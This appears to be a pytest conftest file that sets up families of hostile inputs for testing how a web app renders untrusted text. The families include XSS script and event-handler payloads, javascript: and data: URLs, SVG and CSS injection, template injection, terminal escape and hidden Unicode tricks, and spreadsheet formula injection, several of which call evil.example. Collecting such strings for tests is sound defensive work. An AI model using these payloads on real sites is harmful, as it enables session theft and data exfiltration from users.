"""Hostile texts by families, as names, labels and free text of abusers carry them."""

import itertools
import sys

import pytest

# jsonschema would build grammars of internationalised addresses, seconds that no test here needs.
sys.modules.setdefault("rfc3987_syntax", None)

RUN = "window.__pwned=1"
AWAY = "http://evil.example"

_SCRIPTS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script src={AWAY}/x.js></script>",
    f"</script><script>{RUN}</script>", f"</ScRiPt ><script>{RUN}//", f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>", f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</script>",
    f"</title><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>",
    f"<!--<script>{RUN}", f"<script type=module>{RUN}</script>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"%3Cscript%3E{RUN}%3C/script%3E",
]  # fmt: skip
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
)
_HANDLERS = [
    f"<img src=x {event}={RUN}>" for event in _EVENTS
] + [
    f"<{tag} {event}={RUN}>"
    for tag, event in itertools.product(
        ("svg", "body", "video", "audio", "details open", "input autofocus", "marquee", "iframe"),
        ("onload", "onfocus", "ontoggle"),
    )
] + [
    f"' onmouseover='{RUN}", f'" onmouseover="{RUN}', f"` onmouseover=`{RUN}", f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>", f'x" autofocus onfocus={RUN} y="', f"--!><img src=x onerror={RUN}>",
    f"<img src=`x`onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=x:alert(alt) onerror=eval(src) alt={RUN}>",
]  # fmt: skip
_LOADS = [
    f"<img src={AWAY}/a.png>", f"<link rel=stylesheet href={AWAY}/a.css>", f"<iframe src={AWAY}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>', f"<object data={AWAY}/a.swf></object>",
    f"<embed src={AWAY}/a.swf>", f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<base href={AWAY}/>",
    f"<form action={AWAY}><button>x</button></form>", f"<video poster={AWAY}/a.png>", f"<audio src={AWAY}/a.mp3>",
    f"<input type=image src={AWAY}/a.png>", f"<a href={AWAY} ping={AWAY}>x</a>", f"<table background={AWAY}/a.png>",
    f"<frameset><frame src={AWAY}></frameset>", f"<isindex type=image src={AWAY}>", "<link rel=dns-prefetch href=//evil.example>",
    f"<picture><source srcset={AWAY}/a.png><img></picture>", f"<portal src={AWAY}>", f"{AWAY}/track?x=1",
    "//evil.example/x.png", "https://evil.example/?q=<x>", "ftp://evil.example/x", "file:///etc/passwd",
]  # fmt: skip
_MARKDOWN = [
    f"[click](javascript:{RUN})", f"[click]({AWAY})", f"![x]({AWAY}/x.png)", f"![x][1]\n[1]: {AWAY}/x.png",
    f"<{AWAY}>", f"[x](data:text/html,<script>{RUN}</script>)", f"[a]: javascript:{RUN}", "# heading", "1. one",
    "- item", "> quote", "`code` *bold* _em_ ~~s~~", "| a | b |\n|---|---|", "```js\nx\n```", "***", "a  \nb", "[^1]",
    f"<details open ontoggle={RUN}>x</details>", f'!["onerror="{RUN}](x)', "\\*not bold\\*", "- [ ] task",
]  # fmt: skip
_MATHS = [
    f"$\\href{{javascript:{RUN}}}{{x}}$", "$$\\unicode{<img src=x>}$$", f"\\(\\href{{{AWAY}}}{{x}}\\)",
    "\\begin{equation}x\\end{equation}", "$\\require{html}\\style{color:red}{x}$", f'```mermaid\ngraph TD; a["<img src=x onerror={RUN}>"]\n```',
    f'graph TD; click a "javascript:{RUN}"', "%%{init: {'securityLevel': 'loose'}}%%", "<div class=mermaid>graph TD; a-->b</div>",
    "$\\def\\x{\\x}\\x$", f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
]  # fmt: skip
_SVG = [
    f"<svg><script>{RUN}</script></svg>", f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><image href={AWAY}/a.png /></svg>", f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><set attributeName=href to=javascript:{RUN}>", f"<svg><style>@import '{AWAY}/a.css'</style></svg>",
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>", f"</text><script>{RUN}</script>",
]  # fmt: skip
_HIDDEN = [
    "\x1b[31mred\x1b[0m", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b[2J\x1b[H", "\x07bell", "nul\x00byte",
    "\u202egnp.exe", "\u2066hidden\u2069", "\u200eltr\u200f", "a\u200bb", "a\u200cb\u200dc", "\ufeffbom", "soft\u00adhyphen",
    "\u115fblank\u3164", "\u2800\u2800", "line\nbreak", "carriage\rreturn", "tab\tstop", "\u2028sep\u2029", "\u034fjoin",
    "a\U000e0041tag", "z\u0351\u0352\u0353algo", "e\u0301", "\x9b31m", "\u061calm", "\u180evowel",
]  # fmt: skip
_LONG = [
    "x" * 5000,
    f"<b>{'y' * 4990}</b>",
    "<" * 5000,
    "\u202e" * 5000,
    "ab " * 1700,
    "&amp;" * 1000,
]
_STYLES = [
    "<style>body{display:none}</style>", f"<style>@import url({AWAY}/a.css)</style>", f'<p style="background:url({AWAY}/a.png)">x</p>',
    "}</style><style>*{display:none}", f"x;background:url(javascript:{RUN})", f"expression({RUN})", f"-moz-binding:url({AWAY}/x.xml)",
    "<div style=position:fixed;inset:0;background:red>cover</div>", "*/ body{display:none} /*", "<link rel=stylesheet href=data:text/css,*{display:none}>",
]  # fmt: skip
_ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+", f"vbscript:{RUN}", "blob:http://evil.example/1", f"view-source:{AWAY}",
    f"<a href=javascript:{RUN}>x</a>", f"<a href=&#106;avascript:{RUN}>x</a>", f"<img src='data:image/svg+xml,<svg onload={RUN}>'>",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}", "{% raw %}", "{{ config.items() }}", "{{''.__class__.__mro__}}", "{# comment #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}",
    "{{constructor.constructor('window.__pwned=1')()}}", "%(name)s", "{0}", "{x!r}", "$(id)", "`id`", "__proto__", "constructor",
]  # fmt: skip
_EXPRESSIONS = [
    f"datum.x; {RUN}", "'+datum.constructor.constructor('window.__pwned=1')()+'", '"]; window.__pwned=1; ["', "datum['__proto__']",
    "{\"signal\": \"data('x')\"}", "event.view.constructor", "if(true, 'a', 'b')", "warn('x')", "toString()", f'{{"url": "{AWAY}/d.json"}}',
    f'{{"expr": "{RUN}"}}', "datum.a ? 1 : 2", "\\'; window.__pwned=1; //", "field.with.dots", "field[0]", "x\\.y",
]  # fmt: skip
_JSON = [
    '","x":"', '"}]}</script>', "\\", '\\"', "\\u0000", "\u2028window.__pwned=1\u2029", "}}", "]]", "null", "NaN", "-0", "1e999", "true", "{}", "[]",
]  # fmt: skip
_FORMULAS = [
    f'=HYPERLINK("{AWAY}","x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\ufeff=1+1", "\u200b=1+1", "＝1+1", "|calc", "%0A=1+1", '=IMPORTXML("http://evil.example","//a")', '"=1+1', "＠SUM(1)", "−1+1",
]  # fmt: skip
FAMILIES = {
    "script": _SCRIPTS, "handler": _HANDLERS, "load": _LOADS, "markdown": _MARKDOWN, "maths": _MATHS, "svg": _SVG, "hidden": _HIDDEN,
    "long": _LONG, "style": _STYLES, "address": _ADDRESSES, "template": _TEMPLATES, "expression": _EXPRESSIONS, "json": _JSON, "formula": _FORMULAS,
}  # fmt: skip


@pytest.fixture(scope="session")
def payloads():
    """Return every hostile text once."""
    return tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))


@pytest.fixture(scope="session")
def browser(chromium):
    """Start one browser for all pages."""
    tools = pytest.importorskip("playwright.sync_api")
    with tools.sync_playwright() as started:
        running = started.chromium.launch(
            executable_path=chromium,
            args=["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"],
        )
        yield running
        running.close()
